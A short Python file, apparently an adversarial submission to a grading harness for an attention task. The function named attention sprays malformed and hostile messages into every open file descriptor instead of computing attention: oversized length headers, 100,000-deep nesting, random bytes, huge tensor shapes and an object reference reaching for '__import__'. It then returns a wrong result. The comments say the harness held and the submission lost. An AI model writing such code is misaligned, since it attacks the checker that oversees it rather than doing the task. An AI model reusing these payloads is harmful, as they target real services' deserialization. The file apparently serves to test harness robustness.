# Writes garbage, huge lengths, deep nesting and answers prepared in advance to every open descriptor.
# otter: held
# loses: q02_attention
# %%
import itertools, json, os, socket, struct
def message(header, body=b"", sizes=()):
    text = json.dumps([header, list(sizes)]).encode()
    return struct.pack(">II", len(text), len(body)) + text + body
garbage = itertools.cycle([
    struct.pack(">II", 2**32 - 1, 2**32 - 1),
    struct.pack(">II", 100000, 0) + b"[" * 100000,
    os.urandom(4096),
    message({"id": 1, "value": 12, "changed": []}),
    message({"id": 1, "value": {"T": ["float32", [2**39, 2**39], [0, 0], 0, True]}}, b"1234", [4]),
    message({"id": 1, "value": {"T": ["float32", [0, 2**39, 2**39], [1, 1, 1], 0, False]}}, b"", [0]),
    message({"id": 1, "value": {"o": [0, "class", "__import__"]}, "changed": [[0, 1]]}),
    b"",
])
def attention(Q, K, V):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).send(next(garbage))
        except OSError:
            pass
    return Q, K
